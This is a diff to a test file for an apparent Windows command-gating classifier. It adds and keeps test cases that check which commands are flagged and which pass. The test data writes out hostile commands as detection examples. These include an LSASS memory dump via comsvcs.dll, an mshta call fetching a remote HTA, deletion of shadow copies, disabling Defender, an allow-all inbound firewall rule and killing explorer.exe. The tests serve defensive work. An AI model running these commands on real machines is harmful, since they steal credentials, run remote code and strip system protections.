@@ -47,7 +47,9 @@ test('recovery copies: shadow copies, backup catalogs and restore points gate; l
   gated(['Remove-CimInstance', '-ClassName', 'Win32_ShadowCopy']);
   quiet(['vssadmin', 'list', 'shadows']);
   quiet(['wbadmin', 'get', 'versions']);
-  quiet(['Remove-CimInstance'], { stdinFrom: ['Get-CimInstance', 'Win32_Process'] });
+  assert.deepEqual(ids(['Remove-WmiObject'], { stdinFrom: ['Get-WmiObject', 'Win32_UserAccount'] }), ['windows.wmi-delete:60']);
+  assert.deepEqual(ids(['wmic', 'process', 'where', 'name="node.exe"', 'delete']), ['windows.wmi-delete:60']);
+  quiet(['wmic', 'process', 'list', 'brief']);
 });
 
 test('the registry: deletions, machine-wide and autorun writes, hives saved gate; the user\'s app keys and queries do not', () => {
@@ -86,6 +88,9 @@ test('protection switched off gates: Defender, exclusions, firewall, execution p
   gated(['icacls', 'C:\\Windows\\System32', '/grant', 'Everyone:F', '/t']);
   gated(['sc', 'config', 'WinDefend', 'start=', 'disabled']);
   gated(['Remove-Item', '-Path', 'Cert:\\LocalMachine\\Root\\ABC']);
+  assert.deepEqual(ids(['New-NetFirewallRule', '-DisplayName', 'All', '-Direction', 'Inbound', '-Action', 'Allow']), ['windows.firewall-rule:50']);
+  assert.deepEqual(ids(['Disable-NetAdapter', '-Name', 'Ethernet']), ['windows.network-off:60']);
+  quiet(['New-NetFirewallRule', '-DisplayName', 'Block', '-Direction', 'Outbound', '-Action', 'Block']);
   quiet(['Set-MpPreference', '-DisableRealtimeMonitoring', 'False']);
   quiet(['Set-ExecutionPolicy', '-ExecutionPolicy', 'RemoteSigned', '-Scope', 'CurrentUser']);
   quiet(['Set-ExecutionPolicy', '-ExecutionPolicy', 'Bypass', '-Scope', 'Process', '-Force']);
@@ -112,6 +117,7 @@ test('the machine: critical processes, every process, services, accounts, WSL, t
   gated(['Register-ScheduledTask', '-TaskName', 'x']);
   gated(['rundll32', 'C:\\Windows\\System32\\comsvcs.dll,', 'MiniDump', '624', 'lsass.dmp', 'full']);
   gated(['mshta', 'https://x.example/a.hta']);
+  assert.deepEqual(ids(['taskkill', '/f', '/im', 'explorer.exe']), ['windows.kill-desktop:60']);
   quiet(['taskkill', '/pid', '4242', '/f']);
   quiet(['pkill', 'node']);
   quiet(['sc', 'query', 'W3SVC']);
